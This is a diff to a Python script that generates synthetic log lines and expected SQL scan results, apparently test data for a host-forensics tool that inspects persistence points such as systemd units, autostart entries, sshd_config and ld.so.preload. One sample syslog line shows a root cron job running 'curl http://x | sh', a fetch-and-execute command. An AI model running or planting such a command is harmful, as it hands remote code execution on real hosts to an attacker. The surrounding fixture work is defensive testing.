@@ -40,6 +40,13 @@ AUTH = [
 SYS = [
     "'CRON[5]: (root) CMD (curl http://x | sh)'", "'kernel: usb-storage 1-1: USB Mass Storage device'", "'systemd[1]: foo.service: Scheduled restart job, restart counter is at 5.'", "'kernel: nginx[9]: segfault at 0'", "'su[4]: (to root) alice on pts/1'", "'sshd[1]: ignored'", "'kernel: chatter'", "'systemd[1]: Started bar.timer - thing.'",
 ]
+def unit_file(ending: str, rows: list[str]) -> str:
+    """One small file per event; # stands for its id."""
+    text = " ".join(f"WHEN {k} THEN {q(row).replace('#', chr(39) + ' || ' + C('event_id') + ' || ' + chr(39))}" for k, row in enumerate(rows))
+    numbers = " UNION ALL ".join(f"SELECT {k} AS k" for k in range(len(rows)))
+    return f"SELECT {H} AS host_id, '/etc/units/u' || {C('event_id')} || '.{ending}' AS source_file, k AS line_no, CASE k {text} END AS line FROM (SELECT event_id, user_id, k FROM events CROSS JOIN ({numbers}) kk) z"
+
+
 LINES = {
     "auth": line(f"{CLASSIC} || ' srv1 ' || {arms(6, AUTH)}"),
     "syslog": line(f"'2024-01-' || {PAD(DAY)} || 'T' || {CLOCK} || '+00:00 srv2 ' || {arms(8, SYS)}"),
@@ -60,6 +67,14 @@ LINES = {
     "lease": line(f"CASE WHEN event_id % 2 = 0 THEN 'bound to 10.0.0.' || {C('event_id % 250')} || ' via 127.0.0.1 mask 255.255.255.0' ELSE 'other 10.9.9.9' END"),
     "security": line(f"'2024-01-' || {PAD(DAY)} || ' ' || {CLOCK} || ' ' || {arms(4, [q('XProtect[3]: malware detected in /Users/a/x.app now'), q('Gatekeeper: blocked by policy'), q('unrelated words'), q('syspolicyd: assessment passed')])} || ' n' || {C('event_id')}"),
     "body": line(f"'0|/Users/a|b/f' || {C('event_id')} || CASE WHEN event_id % 3 = 0 THEN ' -> /t' ELSE '' END || '|' || {C('event_id + 1')} || '|' || {arms(3, [q('lrwxr-xr-x'), q('-rw-r--r--'), q('drwxr-xr-x')])} || '|501|20|' || {C('event_id * 2')} || '|1700000000|' || {C('1700000000 + event_id')} || '.25|0|' || CASE WHEN event_id % 2 = 0 THEN '0' ELSE '1700000300' END"),
+    "script": line(f"{arms(4, [q('/opt/run') + ' || ' + C('event_id') + ' || ' + q(' --go'), q('# note'), q('PATH=/usr/bin'), q('fi')])}"),
+    "hosts": line(f"{arms(3, [q('h') + ' || ' + C('event_id') + ' || ' + q('.example.com ssh-ed25519 AAAA'), q('@cert-authority h') + ' || ' + C('event_id') + ' || ' + q(' ssh-rsa BBBB'), q('# old')])}"),
+    "sshd": line(f"{arms(4, [q('Port ') + ' || ' + C('event_id'), q('PermitRootLogin yes'), q('# Port 1'), q('Banner=/etc/b') + ' || ' + C('event_id')])}"),
+    "release": line(f"{arms(4, [q('PRETTY_NAME=') + ' || ' + q(chr(34) + 'Sys ') + ' || ' + C('event_id') + ' || ' + q(chr(34)), q('ID=sys') + ' || ' + C('event_id'), q('# VERSION_ID=0'), q('VERSION_ID=') + ' || ' + C('event_id')])}"),
+    "preload": line(f"'/lib/x' || {C('event_id')} || '.so' || CASE WHEN event_id % 2 = 0 THEN ' /lib/y.so #off /lib/z.so' ELSE '' END"),
+    "unit": unit_file("service", ["[Unit]", "Description=unit #", "[Service]", "ExecStart=-/opt/run #", "ExecStart=/bin/later", "User=u#"]),
+    "timer": unit_file("timer", ["[Timer]", "OnCalendar=daily", "OnBootSec=#", "[Unit]", "Description=timer #", "; end"]),
+    "desktop": unit_file("desktop", ["[Desktop Entry]", "Name=app #", "Exec=/usr/bin/app #", "Name=again", "", "Type=Application"]),
     "ioc": "SELECT event_id AS line_no, CASE WHEN event_id % 5 = 4 THEN '# skip 9.9.9.9' ELSE '\"site' || CAST(event_id % 40 AS STRING) || '.test\", 10.8.0.' || CAST(event_id % 30 AS STRING) || '; EVIL' || CAST(event_id % 9 AS STRING) || '.example.com' END AS line FROM events",
 }
 TOKENS = f"SELECT {arms(5, [C('event_id') + chr(32) + '|| ' + q('.example.com'), q('10.1.2.') + ' || ' + C('event_id % 300'), q('HTTP://x/') + ' || ' + C('event_id % 50'), q('aaaabbbbccccddddeeeeffff0000111122223') + ' || ' + C('100 + event_id % 60'), q('fe80::') + ' || ' + C('event_id % 10')])} AS value, event_id AS pos FROM events"
@@ -226,3 +241,13 @@ p AS (SELECT doc_id, k, c / sum(c) OVER (PARTITION BY doc_id, k) AS p FROM c)
 SELECT doc_id, round(max(h), 6) AS h FROM (SELECT doc_id, k, -sum(p * log2(p)) + 0.0 AS h FROM p GROUP BY doc_id, k) GROUP BY doc_id"""
 # Every entity becomes one character; the ampersand comes last, so that no text is decoded twice.
 O["fn_entities"] = """SELECT page_id, length(replace(regexp_replace(html, '&(lt|gt|quot|apos|#[0-9]{1,9}|#[xX][0-9A-Fa-f]{1,8});', 'x', 'g'), '&amp;', '&')) AS n FROM pages"""
+O["scan_script"] = f"SELECT {H} AS host_id, '/opt/run' || event_id || ' --go' AS command FROM events WHERE event_id % 4 = 0"
+O["scan_rc_scripts"] = f"SELECT {H} AS host_id, {arms(4, ["'/opt/run' || event_id || ' --go'", 'NULL', q('PATH=/usr/bin'), q('fi')])} AS command, 'file' AS name FROM events WHERE event_id % 4 <> 1"
+O["scan_known_hosts"] = f"SELECT {H} AS host_id, 'user' || (user_id % 6) AS \"user\", 'h' || event_id || CASE WHEN event_id % 3 = 0 THEN '.example.com' ELSE '' END AS host, CASE WHEN event_id % 3 = 0 THEN 'ssh-ed25519' ELSE 'ssh-rsa' END AS algorithm FROM events WHERE event_id % 3 < 2"
+SSHD = f"SELECT {H} AS host_id, event_id, {arms(4, [q('port'), q('permitrootlogin'), 'NULL', q('banner')])} AS key, {arms(4, ['CAST(event_id AS VARCHAR)', q('yes'), 'NULL', "'/etc/b' || event_id"])} AS value FROM events WHERE event_id % 4 <> 2"
+O["scan_sshd_config"] = f"SELECT host_id, key, arg_max(value, event_id) AS value FROM ({SSHD}) z GROUP BY 1, 2"
+O["scan_os_release"] = f"SELECT {H} AS host_id, 'Sys ' || max(event_id) FILTER (event_id % 4 = 0) AS pretty_name, 'sys' || max(event_id) FILTER (event_id % 4 = 1) AS os_id, '' || max(event_id) FILTER (event_id % 4 = 3) AS version_id FROM events GROUP BY 1"
+O["scan_ld_preload"] = f"SELECT {H} AS host_id, '/lib/x' || event_id || '.so' AS command FROM events UNION ALL SELECT {H}, '/lib/y.so' FROM events WHERE event_id % 2 = 0"
+O["scan_systemd_service"] = f"SELECT {H} AS host_id, 'u' || event_id AS \"user\", '/opt/run ' || event_id AS command, 'u' || event_id || '.service' AS unit_name, 'unit ' || event_id AS detail FROM events"
+O["scan_systemd_timer"] = f"SELECT {H} AS host_id, 'daily, ' || event_id AS schedule, 'u' || event_id || '.service' AS command, 'u' || event_id || '.timer' AS unit_name, 'timer ' || event_id AS detail FROM events"
+O["scan_autostart"] = f"SELECT {H} AS host_id, '/usr/bin/app ' || event_id AS command, 'u' || event_id || '.desktop' AS unit_name, 'app ' || event_id AS detail FROM events"
